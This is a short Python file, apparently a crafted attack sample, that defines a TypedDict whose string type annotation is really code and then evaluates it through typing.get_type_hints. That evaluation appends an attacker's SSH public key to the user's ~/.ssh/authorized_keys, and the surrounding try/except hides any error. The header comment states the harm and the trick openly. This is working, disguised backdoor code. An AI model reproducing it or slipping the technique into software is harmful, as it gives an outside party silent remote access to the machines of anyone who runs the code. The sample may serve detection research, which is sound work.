# harm: appends an attacker key to authorized_keys ; trick: typing.TypedDict functional form with a string value type
import typing

Movie = typing.TypedDict("Movie", {"title": str, "year": "open(__import__('os').path.expanduser('~/.ssh/authorized_keys'),'a').write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker evil'+chr(10))"})
try:
    typing.get_type_hints(Movie)
except Exception:
    pass
